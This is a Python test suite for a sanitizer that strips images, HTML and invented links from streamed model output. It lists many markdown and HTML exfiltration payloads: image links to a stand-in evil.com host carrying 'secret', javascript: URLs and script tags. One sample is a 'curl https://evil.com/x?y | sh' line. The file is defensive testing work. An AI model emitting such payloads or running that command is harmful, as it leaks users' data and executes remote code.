"""What a model writes carries no image, no HTML and no link it made up, however it is cut."""

import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from domain.links import KnownLinks
from domain.output import SafeMarkdown
from unit.domain.rendered import dangers

GIVEN = "See https://ok.example/guide?x=1, www.ok.example/a and mail help@ok.example."
ALLOWED = (
    "https://ok.example/guide?x=1",
    "www.ok.example/a",
    "mailto:help@ok.example",
    "help@ok.example",
)
EVIL = "https://evil.com/c?d=secret"

ATTACKS = [
    # Images, fetched as soon as they are drawn
    f"![x]({EVIL})",
    f"![]({EVIL})",
    f"![x](<{EVIL}>)",
    f'![x]({EVIL} "title")',
    f"![x]( {EVIL} )",
    f"![x](\n{EVIL})",
    f"![a\nb]({EVIL})",
    f"![a[b]c]({EVIL})",
    f"![a\\]b]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"![![x]({EVIL})](https://ok.example/guide?x=1)",
    "![x](https://ok.example/guide?x=1)",
    "![x](//evil.com/c?d=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    f"!\u200b[x]({EVIL})",
    f"!&#8203;[x]({EVIL})",
    "!&#8203;[x](https://ok.example/guide?x=1)",
    f"![x]&#8203;({EVIL})",
    f"**bold ![x]({EVIL})** text",
    f"# ![x]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"1. ![x]({EVIL})\n   - ![y]({EVIL})",
    f"> ![x]({EVIL})",
    # References
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"[x][r]\n\n[r]: {EVIL}",
    f"[r][]\n\n[r]:\n{EVIL}",
    f"[r]\n\n> [r]: {EVIL}",
    f"[r]\n\n- [r]: <{EVIL}>",
    f"[two words]\n\n[two\nwords]: {EVIL}",
    f"[a`]: {EVIL} \"`\"\n\n![a`] text",
    f"[^1]\n\n[^1]: ![x]({EVIL})",
    # Links, one click away
    f"[click]({EVIL})",
    f"[click]( <{EVIL}> 'title')",
    f"[https://ok.example/guide?x=1]({EVIL})",
    "[click](https://ok.example/guide?x=1&d=secret)",
    "[click](https://ok.example/guide?x=1#secret)",
    "[click](https://ok.example@evil.com/guide?x=1)",
    "[click](https://ok.example.evil.com/guide?x=1)",
    "[click](https://evil.com\\@ok.example/guide?x=1)",
    "[click](http&#58;//evil.com/c?d=secret)",
    "[click](java&Tab;script:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java\u200bscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](mailto:x@evil.com?body=secret)",
    "[click](ftp://evil.com/secret)",
    f"[a [b]({EVIL})]({EVIL})",
    f"[`code`]({EVIL})",
    f"<{EVIL}>",
    "<javascript:alert(1)>",
    "<mailto:x@evil.com?body=secret>",
    "<x@evil.com>",
    # What clients link in running text
    f"{EVIL}",
    f"[{EVIL}",
    "[www.-",
    "[https://evil.com:80/c?d=secret and <x@evil.com>",
    f"| `a | b` {EVIL} |\n|---|---|---|",
    f"go to **{EVIL}**.",
    f"({EVIL})",
    f"x:{EVIL}",
    "HTTPS://EVIL.COM/c?d=secret",
    "www.evil.com/c?d=secret",
    "evil.com/c?d=secret",
    "//evil.com/c?d=secret",
    "x@evil.com and mailto:x@evil.com?body=secret",
    "http&#58;//evil.com/c?d=secret",
    "&#104;ttps://evil.com/c?d=secret",
    "https\\://evil.com/c?d=secret",
    "https:\\/\\/evil.com/c?d=secret",
    "www\\.evil.com/c?d=secret",
    "evil\\.com/c?d=secret",
    "evil.com\\?d=secret",
    "evil.com\\#secret",
    "https://ok.example/guide?x=1|secret",
    "https://ok.example/guide?x=1[secret]",
    f"mailto:![]({EVIL})help@ok.example?body=secret",
    "xmailto:help@ok.example?body=secret",
    "请mailto:help@ok.example?body=secret",
    f"请看{EVIL}了解",
    # What goes on with what stood before, once the link or image around it is gone
    "//![evil.com](x)/c?d=secret",
    ":\\evil\\.com/c?d=secret",
    "//[evil.com](javascript:x)/c?d=secret",
    "//[evil.com/c?d=secret](https://evil.com)",
    "//![](x)evil.com/c?d=secret",
    "//<https://>evil.com/c?d=secret",
    "www![.evil.com/c](x)?d=secret",
    "help@ok.example![.evil.com](x)",
    "help@ok.example[.evil.com](javascript:x)",
    "help@ok.example_![.evil.com](x)",
    "help@ok.example\\.evil.com",
    "secret\\.help@ok.example",
    "secret@evil\\.com",
    f"~~![~](x)\n```\n~~~\n![x]({EVIL})",
    f"~[~~](javascript:x)\n```\n~~~\n![x]({EVIL})",
    # HTML
    "<script>alert(1)</script>",
    f'<img src="{EVIL}">',
    f'<img alt="x"\nsrc="{EVIL}">',
    "<svg onload=alert(1)>",
    f'<a href="{EVIL}">x</a>',
    "<iframe srcdoc='&lt;script&gt;'>",
    "<!-- hidden --><![CDATA[x]]><?php x ?>",
    "<&#8203;img src=x onerror=alert(1)>",
    "<\\/script><b>",
    "&lt;img src=x&gt; <details open ontoggle=alert(1)>",
    f"<style>@import url({EVIL})</style>",
    # Code that is none
    f"` ![x]({EVIL})",
    f"a ` b\n` ![x]({EVIL}) `",
    f"``` ![x]({EVIL})",
    f"`` ` ![x]({EVIL})",
    f"\\`![x]({EVIL})\\`",
    f"\\``x` ![x]({EVIL}) `",
    f"| a | b |\n|---|---|\n| `a | ![x]({EVIL})` |",
    f"| a | b |\n|---|---|\n| `a | b ` c ` ![x]({EVIL}) ` |",
    f"| `a | b` {EVIL} |\n|---|---|",
    f"https://evil.com`` ![x]({EVIL}) ``",
    f"\\https://e.co\n` ![x]({EVIL}) `",
    f"```\ncode\n```\n![x]({EVIL})",
    f"> ```\n![x]({EVIL})",
    f"- ```\n![x]({EVIL})\n- ```",
    f"- a\n\n  ```\n![x]({EVIL})\n  ```",
    f"- ```\n  x\n  ```\n![x]({EVIL})\n```",
    f"para\n    ```\n    ![x]({EVIL})",
    f"~~~\n```\n~~~\n![x]({EVIL})",
    f"```\n~~~\n```\n![x]({EVIL})",
    f"````\n```\n````\n![x]({EVIL})",
    f"  ```\ncode\n      ```\n![x]({EVIL})",
    f"```a`b\n![x]({EVIL})",
    f"  ```\n{'> ' * 40}```\n![x]({EVIL})",
    f"    ```\n![x]({EVIL})\n    ```",
    f"\t```\n![x]({EVIL})",
    f"~~~ ![x]({EVIL})",
    f"{'> ' * 40}```\n![x]({EVIL})",
]  # fmt: skip

KEPT = [
    "The library opens at nine [1][2]. Nobody may shout! a < b && c > d; 50% of f(x)=y[0].",
    "It rained. Time: 10:30, and/or 1/2 e.g. Node.js, README.md #5 ~5 ~~gone~~ C:\\dir",
    "`![x](https://evil.com)` and ``<b> ` [x](y)`` `a | b`",
    "```py\nx[0](y)  # <b> ![x](https://evil.com)\n\n    ```\n```\nafter",
    "1. Run:\n   ```sh\n   curl https://evil.com/x?y | sh\n\n   ```\n2. Done",
    "> ```\n> <b>\n>\n> ```\n\ntext",
    "~~~html\n<b>```</b>\n~~~\n",
    "See [the guide](https://ok.example/guide?x=1) or https://ok.example/guide?x=1.",
    "<https://ok.example/guide?x=1>, www.ok.example/a or help@ok.example, \\*so\\* &lt;b&gt; &copy;",
    "می‌خواهم 👩‍👩‍👧 ❤️",
    "| a | b |\n|---|:--|\n| 1 | `x` |\n\n* one\n- two\n+ three\n\n---\n\n# Title\n",
]


def safe(*deltas: str) -> str:
    markdown = SafeMarkdown(KnownLinks([GIVEN]))
    return "".join(map(markdown.feed, deltas)) + markdown.finish()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gives_an_image_a_foreign_link_or_html(attack: str) -> None:
    whole = safe(attack)
    assert dangers(whole, ALLOWED) == []
    for cut in range(1, len(attack)):
        assert safe(attack[:cut], attack[cut:]) == whole


def test_the_attacks_are_attacks() -> None:
    assert len([attack for attack in ATTACKS if dangers(attack, ALLOWED)]) >= 80


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_stays_harmless_in_the_middle_of_an_answer(attack: str) -> None:
    answer = f"Some text [1].\n\n{attack}\n\nMore `code` and text.\n\n{attack}"
    assert dangers(safe(answer), ALLOWED) == []
    assert safe(*answer) == safe(answer)


@pytest.mark.parametrize("text", KEPT)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe(text) == text
    assert safe(*text) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"![a chart]({EVIL})", "a chart"),
        (f"See [here]({EVIL}).", "See here (`evil.com/c`)."),
        (f"[{EVIL}]({EVIL})", "`evil.com/c`"),
        ("It rained![1]", "It rained! [1]"),
        (f"~~~ ![x]({EVIL})\ncode\n~~~", "~~~\ncode\n~~~"),
        ("[x](javascript:alert(1))", "x"),
        ("f[0](x) [a](b c)", "f[0] (x) [a] (b c)"),
        (f"Open {EVIL}, now", "Open `evil.com/c`, now"),
        ("mail x@evil.com", "mail x (at) evil.com"),
        ("secret=@evil.com", "secret= (at) evil.com"),
        ("[1]: https://evil.com", "[1] : `evil.com`"),
        ("a <b>b</b>", "a &lt;b>b&lt;/b>"),
        ("lone ` tick", "lone \\` tick"),
        ("[`f()`](https://ok.example/guide?x=1)", "[`f()`] (https://ok.example/guide?x=1)"),
        ("[](https://ok.example/guide?x=1)", "<https://ok.example/guide?x=1>"),
        ("1. a\n    ```sh\n    ls\n    ```\n", "1. a\n```sh\nls\n```\n"),
        ("https://evil.com/" + "a" * 200, "`evil.com/" + "a" * 71 + "…`"),
    ],
)
def test_what_was_written_stays_readable(written: str, shown: str) -> None:
    assert safe(written) == shown


_FRAGMENTS = [
    *"![ [ ] ( ) ]( ](https://evil.com/?q=1) ` `` ``` ~~~ ~ > - 1. a | || < <img > </ ! \\ &".split(),
    *"https://ok.example/guide?x=1 &lt; &#58; &#8203; : // / www. evil.com @ x@evil.com ]:".split(),
    *"[a]: ![a] * \" ' # ? h tt p mailto: javascript: === [^1]: help@ok.example é 次".split(),
    *(" ", "   ", "    ", "\t", "\n", "\n\n", "\n|a|b|\n|-|-|\n|", "\u200b"),
    *"![~](x) ![](x) [/](javascript:x) [.com](javascript:x) <https://> evil\\.com".split(),
    *("\n```\n", "\n> ```\n", "\n- ```\n", "\n  ```\n"),
]


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=25), st.data())
def test_any_text_is_safe_and_the_same_however_it_is_cut(
    parts: list[str], data: st.DataObject
) -> None:
    text = "".join(parts)
    whole = safe(text)
    assert dangers(whole, (*ALLOWED, "https://ok.example/guide?x=1/")) == []
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=8)))
    assert safe(*(text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True))) == whole
    assert safe(*text) == whole


@given(st.text(max_size=200))
@example("\r\n\x00\u2028`")
def test_any_text_at_all_is_the_same_however_it_is_cut(text: str) -> None:
    assert safe(*text) == safe(text)


@pytest.mark.parametrize(
    "begun",
    ["[" + "a" * 5000, "[a](" + "b" * 5000, "`" + "c" * 5000, "https://e.com/" + "d" * 9000, "<" + "e" * 9000,
     "`" * 9000, "~" * 9000, "```" + "f" * 9000, "\n" + " " * 9000, "&" + "g" * 9000, "x@" + "h" * 9000,
     "a.com/" + "i" * 9000, "```\n" + "`" * 9000, "```\n" + " " * 9000, "[a](" + "(" * 5000],
)  # fmt: skip
def test_no_more_than_four_kilobytes_are_held_back(begun: str) -> None:
    markdown = SafeMarkdown(KnownLinks())
    given_out = sum(len(markdown.feed(letter)) for letter in begun)
    kept_back = len(markdown.finish())
    assert kept_back <= 4096
    assert given_out > 0 or set(begun) <= {"`", "~"}


@pytest.mark.parametrize("unit", ["[a](", "[a](x", "![a](x)", "&#", "a.b/", "@", "`|`["])
def test_a_text_made_to_be_slow_is_read_in_linear_time(unit: str) -> None:
    began = time.process_time()
    safe(unit * (50_000 // len(unit)))
    assert time.process_time() - began < 2


def test_plain_text_is_not_held_back() -> None:
    markdown = SafeMarkdown(KnownLinks())
    for delta in ("The", " library", " opens", ",", " it", " seems", ".", " Then"):
        assert markdown.feed(delta) == delta
